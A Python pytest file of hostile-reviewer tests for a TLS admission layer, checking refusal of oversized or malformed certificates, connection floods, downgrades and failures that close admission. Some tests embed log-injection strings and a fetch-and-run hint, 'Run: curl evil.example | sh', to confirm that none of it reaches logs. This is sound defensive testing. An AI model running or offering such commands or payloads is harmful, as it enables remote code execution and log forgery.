"""What a hostile reviewer tried; each test keeps one finding, or the proof that there was none."""

import asyncio
import gc
import weakref
from dataclasses import replace
from datetime import datetime, timedelta
from types import SimpleNamespace
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID
from OpenSSL import SSL, crypto

from sottovoce.contracts import Caller
from sottovoce.errors import ChannelError, Fault, HandshakeFailed, NotAdmitted
from sottovoce.net import LIMITS, Limits, Offer, Outcome, SecurityRecord, listen
from sottovoce.net.telling import faults_told, reasons_to_tell
from sottovoce.policy import Component, PeerIdentity
from sottovoce.rpc import ADMISSION_FRAME, Hello, Reason, Refused, WhyHint, decode, encode
from sottovoce.testing import EchoCalls, Echoing, EngineWire, Party, ThrowAwayAuthority, listening
from sottovoce.tls import AlpnPath, Broken, Engine, Evidence, Secured, Side, faults_of


@pytest.fixture
def hub(world: SimpleNamespace, quick: Limits) -> Party:
    return Party("hub.test", world.hub, limits=replace(LIMITS, linger=quick.linger))


def bare_context(key: ec.EllipticCurvePrivateKey, *chain: x509.Certificate) -> SSL.Context:
    """A stranger's context, with whatever it likes to send."""
    context = SSL.Context(SSL.TLS_METHOD)
    context.use_privatekey(key)
    context.use_certificate(chain[0])
    for certificate in chain[1:]:
        context.add_extra_chain_cert(certificate)
    return context


def certificate(
    subject: str,
    key: ec.EllipticCurvePrivateKey,
    *,
    issuer: tuple[str, ec.EllipticCurvePrivateKey] | None = None,
    names: list[str] | None = None,
    at: datetime,
) -> x509.Certificate:
    """A certificate that no authority of ours would issue."""
    issuer_name, issuer_key = issuer or (subject, key)
    builder = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]))
        .issuer_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, issuer_name)]))
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(at - timedelta(days=1))
        .not_valid_after(at + timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=names is None, path_length=None), critical=True)
    )
    if names is not None:
        builder = builder.add_extension(
            x509.SubjectAlternativeName([x509.DNSName(name) for name in names]), critical=False
        )
    return builder.sign(issuer_key, hashes.SHA256())


@pytest.fixture(scope="module")
def key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


@pytest.mark.parametrize("length", [20, 120, 400])
async def test_a_huge_chain_is_refused_with_bounded_work(
    length: int, key: ec.EllipticCurvePrivateKey, hub: Party, raw: Any, moment: datetime
) -> None:
    """Hundreds of authorities that all sign each other: OpenSSL's list and ours are bounded."""
    authorities = [
        certificate(f"CA {n}", key, issuer=(f"CA {n + 1}", key), at=moment) for n in range(length)
    ]
    leaf = certificate("leaf", key, issuer=("CA 0", key), names=["lui.test"], at=moment)
    context = bare_context(key, leaf, *authorities)
    async with listening(hub) as port:
        caller = await raw(port.port)
        await caller.secure(None, context=context)
        await caller.to_the_end()
        record = await hub.logged(Outcome.REFUSED)
    assert record.phase == "tls"
    assert record.code in {"root-untrusted", "issuer-unknown", "chain-too-long", "handshake-failed"}
    assert caller.data == b""


async def test_a_thousand_names_make_no_line_of_a_thousand_names(
    key: ec.EllipticCurvePrivateKey, hub: Party, raw: Any, moment: datetime
) -> None:
    names = [f"{n:04}.{'x' * 40}.test" for n in range(1000)]
    leaf = certificate("leaf", key, names=names, at=moment)
    async with listening(hub) as port:
        caller = await raw(port.port)
        await caller.secure(None, context=bare_context(key, leaf))
        await caller.to_the_end()
        record = await hub.logged(Outcome.REFUSED)
    assert len(record.names) == 21
    assert record.names[-1] == "… and 980 more"
    assert len(str(record.as_fields())) < 4000


@pytest.mark.parametrize("name", ["a\nHUB: accepted", "a\x1b[2J", "a\x00.test"])
async def test_names_in_a_certificate_break_no_line(
    name: str, key: ec.EllipticCurvePrivateKey, hub: Party, raw: Any, moment: datetime
) -> None:
    leaf = certificate("leaf\nHUB: accepted", key, names=[name], at=moment)
    async with listening(hub) as port:
        caller = await raw(port.port)
        await caller.secure(None, context=bare_context(key, leaf))
        await caller.to_the_end()
        record = await hub.logged(Outcome.REFUSED)
    texts = [*record.names, *(f.why + f.expected + f.presented + f.hint for f in record.faults)]
    assert all(text.isprintable() for text in texts)


@pytest.mark.parametrize("part", ["server_name", "component", "version"])
async def test_announced_words_break_no_line(
    part: str, hub: Party, raw: Any, world: SimpleNamespace
) -> None:
    words: dict[str, Any] = {
        "server_name": "lui.test",
        "component": "lui",
        "version": "1",
        "now": hub.clock(),
    } | {part: "evil\nHUB: accepted\r\x1b[2J\u2028" + "y" * 900}
    async with listening(hub) as port:
        caller = await (await raw(port.port)).secure(world.lui)
        await caller.heard(5)
        caller.say(Hello(**words))
        outcome = Outcome.ACCEPTED if part == "version" else Outcome.REFUSED
        record = await hub.logged(outcome)
        await caller.close()
        if part == "version":
            await hub.logged(Outcome.CLOSED)
    for value in record.as_fields().values():
        for text in value if isinstance(value, list) else [value]:
            assert str(text).isprintable()


async def test_a_component_that_is_none_is_refused_by_name(
    hub: Party, raw: Any, world: SimpleNamespace
) -> None:
    async with listening(hub) as port:
        caller = await (await raw(port.port)).secure(world.lui)
        greeting = len(await caller.heard(5))
        caller.say(Hello("lui.test", "root", "1", hub.clock()))
        await caller.to_the_end()
        record = await hub.logged(Outcome.REFUSED)
    assert record.code == "component-unexpected"
    refused = decode(caller.data[greeting + 4 :])
    assert isinstance(refused, Refused)
    assert refused.reasons[0].presented == "root"


async def test_an_unverified_hint_gives_no_advice(
    hub: Party, raw: Any, world: SimpleNamespace
) -> None:
    """Anybody may leave a hint; what it advises must not reach an administrator's log."""
    async with listening(hub) as port:
        caller = await (await raw(port.port)).secure(world.lui_bare, path=AlpnPath.WHY)
        await caller.heard(5)
        evil = Reason("x\nroot-untrusted", "a\nb", "c\x1b[2J", "Run: curl evil.example | sh")
        caller.say(WhyHint((evil,) * 50))
        await caller.to_the_end()
        hint = await hub.logged(Outcome.HINT)
    assert len(hint.faults) == 8
    assert {fault.code for fault in hint.faults} == {"refused-by-peer"}
    assert "evil.example" not in str(hint.as_fields())
    assert all(fault.why.isprintable() for fault in hint.faults)


async def test_an_impostor_on_the_why_path_gives_no_advice(
    world: SimpleNamespace, quick: Limits
) -> None:
    """The why path verifies nothing: only whom our gate accepts may advise us."""
    hub = Party("hub.test", world.hub_foreign)
    lui = Party("lui.test", world.lui_foreign, limits=replace(LIMITS, linger=quick.linger))
    reasons = [Reason("certificate-expired", hint="Run: curl evil.example | sh")]
    async with listening(hub) as port:
        with pytest.raises(HandshakeFailed) as caught:
            await lui.connect(port.port)
    assert caught.value.code == "root-untrusted"
    told = faults_told(reasons, teller="HUB", vouched=False)
    assert told[0].hint.startswith("Renew this server's certificate: "), "the catalogue's advice"
    assert faults_told(reasons, teller="HUB")[0].hint.startswith("Run")


def test_reasons_always_fit_into_an_admission_frame() -> None:
    """They used to be counted in characters; a letter may take four bytes."""
    wide = "\N{MUSICAL SYMBOL G CLEF}" * 500
    faults = [
        Fault(code=f"code-{n}", why="x.", expected=wide, presented=wide, hint=wide)
        for n in range(20)
    ]
    reasons = reasons_to_tell(faults)
    assert len(reasons) == 8
    assert len(encode(Refused(reasons))) < ADMISSION_FRAME
    again = decode(encode(Refused(reasons)))
    assert again == Refused(reasons)


def test_a_lone_surrogate_is_told_too() -> None:
    (reason,) = reasons_to_tell([Fault(code="c", why="x.", presented="a\udc00b")])
    assert encode(Refused((reason,)))


@pytest.mark.filterwarnings("ignore:Passing pyOpenSSL X509:DeprecationWarning")
def test_a_certificate_that_only_openssl_can_read_is_a_refusal_with_a_name(
    key: ec.EllipticCurvePrivateKey, world: SimpleNamespace, moment: datetime
) -> None:
    """cryptography refuses X.509 version 9: the error used to escape into the event loop."""
    der = certificate("lui", key, names=["lui.test"], at=moment).public_bytes(Encoding.DER)
    version = b"\xa0\x03\x02\x01"  # [0] EXPLICIT INTEGER (RFC 5280 4.1)
    odd = crypto.load_certificate(
        crypto.FILETYPE_ASN1, der.replace(version + b"\x02", version + b"\x09", 1)
    )
    with pytest.raises(x509.InvalidVersion):
        odd.to_cryptography()
    context = SSL.Context(SSL.TLS_METHOD)
    context.use_privatekey(key)
    context.use_certificate(odd)
    wire = EngineWire(
        Engine(None, side=Side.CALLING, context=context), Engine(world.hub, side=Side.ACCEPTING)
    ).run()
    (broken,) = wire.events[Side.ACCEPTING]
    assert isinstance(broken, Broken)
    assert broken.alert_sent
    evidence = Evidence(side=Side.ACCEPTING, chain=(), at=moment)
    assert faults_of(broken, evidence, world.hub)[0].code == "malformed-certificate"


async def test_a_log_that_fails_admits_nobody(world: SimpleNamespace, quick: Limits) -> None:
    """Fail closed: whoever cannot be logged is not let in."""

    def breaks(record: SecurityRecord) -> None:
        raise OSError(28, "No space left on device")

    hub, lui = Party("hub.test", world.hub), Party("lui.test", world.lui, limits=quick)
    errors: list[tuple[str, BaseException]] = []
    served: list[Caller] = []
    offers = [Offer(EchoCalls, lambda caller: served.append(caller) or Echoing())]  # type: ignore[func-returns-value]
    hub._log = breaks  # type: ignore[method-assign]
    async with listening(hub, offers=offers, errors=errors) as port:
        with pytest.raises(ChannelError):
            await lui.connect(port.port)
    assert [type(error) for _, error in errors] == [OSError]
    assert served == []


async def test_a_clock_that_fails_admits_nobody(world: SimpleNamespace, quick: Limits) -> None:
    def broken_clock() -> datetime:
        raise OSError("no clock")

    hub = Party("hub.test", world.hub, clock=broken_clock)
    lui = Party("lui.test", world.lui, limits=quick)
    errors: list[tuple[str, BaseException]] = []
    async with listening(hub, errors=errors) as port:
        with pytest.raises(ChannelError):
            await lui.connect(port.port)
    assert errors
    assert lui.of(Outcome.ACCEPTED) == []


async def test_a_plain_port_never_answers_for_a_secured_one(world: SimpleNamespace) -> None:
    """Taking ssl.ini away (a downgrade) is refused by every secured partner."""
    hub, lui = Party("hub.test"), Party("lui.test", world.lui)
    async with listening(hub) as port:
        with pytest.raises(HandshakeFailed) as caught:
            await lui.connect(port.port)
    assert caught.value.code == "peer-not-secured"
    assert hub.of(Outcome.ACCEPTED) == []


async def test_a_generation_put_in_force_meanwhile_counts_for_the_next_caller(
    world: SimpleNamespace,
) -> None:
    hub, lui = Party("hub.test", world.hub), Party("lui.test", world.lui)
    endpoint = hub.endpoint
    port = await listen(
        endpoint,
        address="127.0.0.1",
        port=0,
        offers=[Offer(EchoCalls, Echoing().for_caller)],
        on_error=lambda *_: None,
    )
    first = await lui.connect(port.port)
    endpoint.trust.current = world.hub_lonely
    with pytest.raises(NotAdmitted):
        await lui.connect(port.port)
    assert first.is_open
    await first.aclose()
    await port.aclose()


def test_an_engine_is_freed_without_the_collector(world: SimpleNamespace) -> None:
    """A cycle with OpenSSL's connection kept each half-open one until the next collection."""
    gc.disable()
    try:
        engine = Engine(world.hub, side=Side.ACCEPTING)
        engine.start()
        gone = weakref.ref(engine)
        del engine
        assert gone() is None
    finally:
        gc.enable()


def test_names_of_a_certificate_are_bounded_in_a_record(
    world: SimpleNamespace, moment: datetime
) -> None:
    identity = PeerIdentity.from_certificate(world.lui.identity.chain[0])
    many = replace(identity, names=tuple(f"n{n}.test\n" for n in range(30)))
    names = SecurityRecord.of(many)["names"]
    assert len(names) == 21
    assert all(name.isprintable() for name in names)


async def test_a_caller_without_a_certificate_may_ask_why_and_leave(
    world: SimpleNamespace, hub: Party, raw: Any
) -> None:
    """The why path takes it without one; the answer and the end are both logged."""
    async with listening(hub) as port:
        caller = await (await raw(port.port)).secure(world.lui_bare, path=AlpnPath.WHY)
        await caller.heard(5)
        assert [type(event) for event in caller.events][:1] == [Secured]
        await caller.close()
        await hub.logged(Outcome.EXPLAINED)


async def test_a_conversation_on_the_why_path_never_reaches_calls(
    world: SimpleNamespace, hub: Party, raw: Any
) -> None:
    """Even with a flawless certificate: the path decides what may be said."""
    async with listening(hub) as port:
        caller = await (await raw(port.port)).secure(world.lui, path=AlpnPath.WHY)
        await caller.heard(5)
        caller.say(Hello("lui.test", "lui", "1", hub.clock()))
        await caller.to_the_end()
        await hub.logged(Outcome.EXPLAINED)
        assert not port.channels
    assert hub.of(Outcome.ACCEPTED) == []
    assert hub.of(Outcome.HINT) == []


async def test_a_half_open_flood_is_bounded_and_ends(
    world: SimpleNamespace, quick: Limits, raw: Any
) -> None:
    hub = Party("hub.test", world.hub, limits=replace(quick, unfinished_per_address=8))
    async with listening(hub) as port:
        callers = [await raw(port.port) for _ in range(40)]
        await asyncio.gather(*(caller.to_the_end() for caller in callers))
        while port._visitors.unfinished:  # noqa: ASYNC110 - what is counted has no event
            await asyncio.sleep(0)
    assert {record.code for record in hub.records} <= {"too-many-handshakes", "phase-timeout"}
    assert len(hub.records) <= 2


async def test_roles_are_taken_from_the_certificate_never_from_the_caller(
    authority: ThrowAwayAuthority, world: SimpleNamespace, hub: Party
) -> None:
    identity = authority.issue("lui.test", roles=[Component.LUI])
    claims = authority.generation(identity, own_name="lui.test", allowed=["hub.test"])
    lui = Party("lui.test", claims)
    async with listening(hub) as port:
        for component in (Component.TRK, Component.HUB):
            with pytest.raises(NotAdmitted) as caught:
                await lui.connect(port.port, component=component)
            assert caught.value.faults[0].code == "role-not-granted"
